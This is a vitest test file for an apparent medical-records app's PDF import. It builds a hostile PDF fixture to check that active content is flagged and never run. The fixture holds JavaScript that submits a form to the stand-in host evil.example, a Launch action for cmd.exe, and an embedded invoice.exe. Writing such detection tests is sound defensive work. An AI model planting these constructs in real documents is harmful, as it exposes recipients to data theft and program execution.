import { join } from 'node:path';
import { PDFDict, PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { scanPdfObjects } from '../electron/core/import/pdf/pdfActiveContent.mjs';
import { runImport } from '../electron/core/import/runImport';
import type { Vault } from '../electron/core/vault/Vault';
import { makePdf, writeTree } from './support/fixtures';
import { withNewVault } from './support/vault';
import { listDocuments } from '../electron/core/usecases/documents';

/**
 * A PDF that tries to act: JavaScript when it opens (OpenAction) and in a link on the page, a
 * link that would launch a program, optionally an attached file. Built with pdf-lib's low-level
 * objects, the way a hostile writer would.
 */
async function activePdf(options: { objectStreams: boolean; attachment?: boolean }): Promise<Buffer> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  const page = document.addPage([612, 792]);
  page.drawText('Radiology report. Marker: chinchilla', { x: 56, y: 720, size: 12, font });
  const context = document.context;
  const openScript = context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of("app.alert('Hello');") });
  document.catalog.set(PDFName.of('OpenAction'), context.register(openScript));
  const link = (y: number, action: PDFDict) =>
    context.register(
      context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [56, y, 256, y + 20], Border: [0, 0, 0], A: action }),
    );
  page.node.set(
    PDFName.of('Annots'),
    context.obj([
      link(
        600,
        context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('this.submitForm("https://evil.example/");') }),
      ),
      link(560, context.obj({ Type: 'Action', S: 'Launch', F: PDFString.of('cmd.exe') })),
    ]),
  );
  if (options.attachment) {
    await document.attach(Buffer.from('MZ not really a program'), 'invoice.exe', {
      mimeType: 'application/octet-stream',
    });
  }
  return Buffer.from(await document.save({ useObjectStreams: options.objectStreams }));
}

describe('a PDF with JavaScript, Launch actions or embedded files', () => {
  let vault: Vault;
  let root: string;
  let cleanup: () => Promise<void>;

  beforeEach(async () => {
    ({ vault, root, cleanup } = await withNewVault());
  });
  afterEach(() => cleanup());

  it.each([
    ['packed in object streams', true],
    ['in plain objects', false],
  ])(
    'is imported as it came, searchable, with warnings that nothing in it runs (%s)',
    async (_label, objectStreams) => {
      const bytes = await activePdf({ objectStreams });
      await writeTree(root, { 'in/report.pdf': bytes, 'in/plain.pdf': await makePdf(['A plain letter']) });
      const report = await runImport(vault, [join(root, 'in')]);
      expect(report).toMatchObject({ imported: 2, failed: [] });
      const path = join(root, 'in/report.pdf');
      expect(report.warnings).toEqual([
        {
          path,
          reason: 'The PDF contains JavaScript (run on opening, links or other actions); Medvault never runs it.',
        },
        {
          path,
          reason: 'The PDF has an action that would start a program or open a file (Launch); Medvault never does.',
        },
      ]);
      const [document] = await listDocuments(vault, { text: 'chinchilla' });
      expect(document?.source.path).toBe(path);
      // The vault keeps what the patient received, byte for byte.
      const [file] = await vault.db.read((q) =>
        q.all<{ blob_id: string }>('SELECT blob_id FROM document_files WHERE document_id = ?', [document!.id]),
      );
      expect((await vault.blobs.readAll(file!.blob_id)).equals(bytes)).toBe(true);
    },
  );

  it('names embedded files, and says they are never opened', async () => {
    await writeTree(root, { 'report.pdf': await activePdf({ objectStreams: true, attachment: true }) });
    const report = await runImport(vault, [join(root, 'report.pdf')]);
    expect(report.imported).toBe(1);
    expect(report.warnings.map((warning) => warning.reason)).toContain(
      'The PDF carries embedded files (invoice.exe); they stay inside it and Medvault never opens them.',
    );
  });
});

describe('what is not active content', () => {
  it('bytes inside a stream (an image, a font) that happen to spell "/EF" or "/S /JavaScript" are not counted', async () => {
    const document = await PDFDocument.create();
    document.addPage([612, 792]);
    // Uncompressed binary data as an image XObject's stream would carry it.
    const data = Buffer.concat([
      Buffer.from([0xff, 0xd8, 0x00]),
      Buffer.from(' /EF /S /JavaScript /S /Launch '),
      Buffer.alloc(64, 7),
    ]);
    document.context.register(document.context.stream(data, { Type: 'XObject', Subtype: 'Image' }));
    const bytes = await document.save({ useObjectStreams: false });
    expect(Buffer.from(bytes).includes(Buffer.from('/EF /S /JavaScript'))).toBe(true);
    expect(scanPdfObjects(bytes)).toEqual({ javaScriptActions: 0, launchActions: 0, embeddedFiles: 0 });
  });
});
